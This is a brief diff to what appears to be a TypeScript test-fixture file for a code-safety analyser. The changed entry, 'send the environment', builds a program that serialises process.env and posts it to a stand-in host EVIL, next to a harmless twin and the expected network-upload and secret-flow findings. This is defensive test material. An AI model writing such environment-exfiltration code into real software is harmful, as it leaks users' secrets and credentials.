@@ -51,8 +51,8 @@ export const JAVASCRIPT_ACTS: readonly Act<Program>[] = [
   },
   {
     name: 'send the environment',
-    dangerous: post(call(code('JSON.stringify'), [name('process.env')])),
-    twin: program(call(log, [name('process.pid')])),
+    dangerous: post(call(code('JSON.stringify'), [code('process.env')])),
+    twin: program(call(log, [code('process.pid')])),
     wanted: [
       want('network', { host: EVIL, upload: true }),
       want('flows', { source: ['environment', 'secret'], sink: 'network' }),
